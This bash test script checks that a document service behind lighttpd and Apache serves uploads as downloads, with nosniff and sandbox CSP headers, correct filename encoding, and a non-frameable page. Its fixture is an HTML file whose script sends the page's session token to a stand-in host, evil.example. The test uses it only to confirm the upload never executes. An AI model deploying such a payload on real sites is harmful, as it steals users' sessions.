#!/usr/bin/env bash
# Serving user content (DESIGN.md): through lighttpd AND Apache mod_fcgid,
# every answer that carries a document's bytes (GET, HEAD, a Range's 206)
# makes the browser download it (Content-Disposition: attachment with the
# document's name, RFC 6266 + RFC 8187), never sniffs it, and sandboxes it
# should it be rendered anyway.  Checked for an uploaded text/html document
# and for a name with non-ASCII bytes, quotes, ';' and '%'.  The page that
# holds the token runs no inline script and cannot be framed.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/tap.sh"
. "$here/../lib/http.sh"

need_stack BINDERY_TEST_LIGHTTPD_URL BINDERY_TEST_APACHE_URL BINDERY_TEST_TOKEN

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
auth=(-H "Authorization: Bearer $BINDERY_TEST_TOKEN")
want_nosniff='nosniff'
want_csp="sandbox; default-src 'none'"

# An HTML document that would steal the page's token if it ran on our origin.
printf '<!doctype html><script>fetch("//evil.example/?t="+sessionStorage.getItem("bindery-token"))</script>\n' \
	>"$work/evil.html"
printf 'plain text with a name that needs care\n' >"$work/odd.txt"

# safety_headers SRV WHAT: the three headers on the last req's answer.
safety_headers() {
	is "$(header content-disposition)" "$want_cd" "$1: $2: Content-Disposition"
	is "$(header x-content-type-options)" "$want_nosniff" "$1: $2: X-Content-Type-Options"
	is "$(header content-security-policy)" "$want_csp" "$1: $2: Content-Security-Policy"
}

# check_content SRV ID TYPE FILE: GET, HEAD and a Range of one document.
check_content() {
	local srv=$1 id=$2 type=$3 file=$4
	curl -s -o "$work/got" "$url/documents/$id/content"
	is "$(sha "$work/got")" "$(sha "$file")" "$srv: GET serves the bytes unchanged"
	req GET "$url/documents/$id/content"
	is "$HTTP_CODE" 200 "$srv: GET is 200"
	is "$HTTP_CTYPE" "$type" "$srv: GET keeps the uploaded Content-Type"
	safety_headers "$srv" GET
	req HEAD "$url/documents/$id/content" -I
	is "$HTTP_CODE" 200 "$srv: HEAD is 200"
	safety_headers "$srv" HEAD
	req GET "$url/documents/$id/content" -H 'Range: bytes=0-4'
	is "$HTTP_CODE" 206 "$srv: Range is 206"
	safety_headers "$srv" "Range 206"
}

for s in "lighttpd=$BINDERY_TEST_LIGHTTPD_URL" "apache=$BINDERY_TEST_APACHE_URL"; do
	srv=${s%%=*} url=${s#*=}
	tag="safe-$srv-$$-$RANDOM"

	req POST "$url/documents?name=$tag.html" "${auth[@]}" -H 'Content-Type: text/html' \
		--data-binary "@$work/evil.html"
	is "$HTTP_CODE" 201 "$srv: an HTML upload is accepted (it is only data)"
	id=$(jfield "$HTTP_BODY" id)
	want_cd="attachment; filename=\"$tag.html\"; filename*=UTF-8''$tag.html"
	check_content "$srv html" "$id" text/html "$work/evil.html"

	# r<U+00E9>sum<U+00E9> "q";%<U+65E5>.txt, percent-encoded for the query.
	req POST "$url/documents?name=$tag-r%C3%A9sum%C3%A9%20%22q%22%3B%25%E6%97%A5.txt" "${auth[@]}" \
		-H 'Content-Type: text/plain' --data-binary "@$work/odd.txt"
	is "$HTTP_CODE" 201 "$srv: a non-ASCII name is accepted"
	id=$(jfield "$HTTP_BODY" id)
	want_cd="attachment; filename=\"$tag-r_sum_ _q_;__.txt\"; filename*=UTF-8''$tag-r%C3%A9sum%C3%A9%20%22q%22%3B%25%E6%97%A5.txt"
	check_content "$srv non-ASCII" "$id" text/plain "$work/odd.txt"

	# The page: no inline script, not frameable; its script comes from /page.js.
	req GET "$url/"
	is "$HTTP_CODE" 200 "$srv: the page is 200"
	is "$(header content-security-policy)" "default-src 'self'; script-src 'self'; style-src 'unsafe-inline'; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'" \
		"$srv: the page's CSP allows no inline script and no framing"
	like "$HTTP_BODY" '<script src="/page\.js"></script>' "$srv: the page loads /page.js"
	unlike "$HTTP_BODY" '<script>' "$srv: the page has no inline script"
	req GET "$url/page.js"
	is "$HTTP_CODE" 200 "$srv: /page.js is 200"
	is "$HTTP_CTYPE" "text/javascript; charset=utf-8" "$srv: /page.js is JavaScript"
	is "$(header x-content-type-options)" nosniff "$srv: /page.js is not sniffed"
	like "$HTTP_BODY" "sessionStorage\\.getItem\\('bindery-token'\\)" "$srv: /page.js is the page's script"
done
done_testing
